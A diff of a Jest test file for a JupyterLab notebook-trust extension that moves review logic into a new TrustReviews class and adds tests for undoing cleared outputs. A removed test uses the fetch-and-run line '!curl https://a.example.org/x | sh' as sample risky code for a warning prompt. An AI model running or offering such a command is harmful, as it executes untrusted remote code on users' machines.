@@ -8,7 +8,6 @@ import { Notification } from '@jupyterlab/apputils';
 import { nullTranslator } from '@jupyterlab/translation';
 
 import { trustCells } from '../notebook/trusting';
-import { FixHistory } from '../notebook/history';
 import { toContents } from '../notebook/testing/memorycontents';
 import { MemoryDrive } from '../notebook/testing/memorydrive';
 import { htmlNotebook, watchNotebook } from '../notebook/testing/opennotebook';
@@ -17,7 +16,8 @@ import { TrustWatch } from '../notebook/trust';
 import type { RevokeResult, TrustServer } from '../notebook/trustserver';
 import type { ReviewOptions, TrustChoice, TrustKind } from '../ui/trustdialog';
 import { Changes } from './changes';
-import { type OpenNotebook, TrustFlow } from './trust';
+import { TrustFlow } from './trust';
+import { type OpenNotebook, TrustReviews } from './trustreviews';
 
 const SCRIPT = '<script>a()</script>';
 const LOOK = '<style>a {}</style>';
@@ -37,6 +37,7 @@ const asked = jest.fn<Promise<TrustChoice>, [ReviewOptions]>();
 interface Opened {
   readonly notebook: OpenNotebook;
   readonly flow: TrustFlow;
+  readonly changes: Changes;
   readonly trust: TrustWatch;
   readonly sign: jest.Mock;
   readonly revoke: jest.Mock;
@@ -66,13 +67,14 @@ const open = (htmls: readonly string[], canSign = true): Opened => {
   });
   trust.follow(watch);
   const runs: Opened['runs'] = [];
+  const reviews = new TrustReviews({ engine, trans, ask: asked });
+  const changes = new Changes(trans);
   const flow = new TrustFlow({
-    engine,
-    changes: new Changes(new FixHistory(), trans),
+    reviews,
+    changes,
     trust,
     server: { sign, revoke } as unknown as TrustServer,
     trans,
-    ask: asked,
     mayRevoke,
     run: (_, cells) => void runs.push(cells && cells.map(({ id }) => id))
   });
@@ -81,6 +83,7 @@ const open = (htmls: readonly string[], canSign = true): Opened => {
   return {
     notebook: { panel, watch },
     flow,
+    changes,
     trust,
     sign,
     revoke,
@@ -204,14 +207,13 @@ describe('the review of a notebook', () => {
   });
 });
 
-it('nothing is trusted, and nothing runs, that could not be reviewed', async () => {
+it('nothing is trusted that could not be reviewed', async () => {
   const { notebook, flow, trusted } = open([SCRIPT]);
   jest.spyOn(notebook.watch.model, 'toJSON').mockImplementation(() => {
     throw new Error('a');
   });
   Notification.dismiss();
   expect(await flow.trust(notebook)).toEqual({ trusted: false });
-  expect(await flow.mayRun(notebook)).toBe(false);
   expect(trusted()).toEqual([false]);
   expect(asked).not.toHaveBeenCalled();
   expect(Notification.manager.notifications[0].message).toContain(
@@ -230,31 +232,30 @@ it('a single cell is reviewed alone, and trusted for the session', async () => {
   expect(sign).not.toHaveBeenCalled();
 });
 
-describe('before all cells run', () => {
-  it('asks where there is something to tell of, once', async () => {
-    const { notebook, flow } = open([SCRIPT]);
-    answer(['leave'], ['run']);
-    expect(await flow.mayRun(notebook)).toBe(false);
-    expect(await flow.mayRun(notebook)).toBe(true);
-    expect(await flow.mayRun(notebook)).toBe(true);
-    expect(asked).toHaveBeenCalledTimes(2);
+describe('cleared outputs', () => {
+  it('come back with the undo of any fix', async () => {
+    const { notebook, flow, changes, outputs, trusted } = open([SCRIPT, CALM]);
+    answer(['clear']);
+    await flow.trust(notebook);
+    expect(outputs()).toEqual([0, 1]);
+    // The command of another plugin, which has its own `Changes`.
+    new Changes(trans).undo(notebook.watch);
+    expect(outputs()).toEqual([1, 1]);
+    expect(trusted()).toEqual([false, false]);
+    changes.undo(notebook.watch);
+    expect(outputs()).toEqual([1, 1]);
   });
 
-  it('asks nothing where nothing acts, or all is trusted', async () => {
-    const calm = open([LOOK]);
-    expect(await calm.flow.mayRun(calm.notebook)).toBe(true);
-    const trusted = open([SCRIPT]);
-    trusted.notebook.watch.model.cells.get(0).trusted = true;
-    expect(await trusted.flow.mayRun(trusted.notebook)).toBe(true);
-    expect(asked).not.toHaveBeenCalled();
-  });
-
-  it('asks for risky code alone', async () => {
-    const { notebook, flow } = open([CALM]);
+  it('come back as untrusted as they were, where the cell ran since', async () => {
+    const { notebook, flow, changes, outputs, trusted } = open([SCRIPT]);
+    answer(['clear']);
+    await flow.trust(notebook);
     const [cell] = notebook.watch.model.cells;
-    cell.sharedModel.setSource('!curl https://a.example.org/x | sh');
-    answer(['leave']);
-    expect(await flow.mayRun(notebook)).toBe(false);
+    cell.trusted = true;
+    changes.undo(notebook.watch);
+    expect(outputs()).toEqual([1]);
+    expect(trusted()).toEqual([false]);
+    expect(cell.getMetadata('trusted')).toBeUndefined();
   });
 });
 
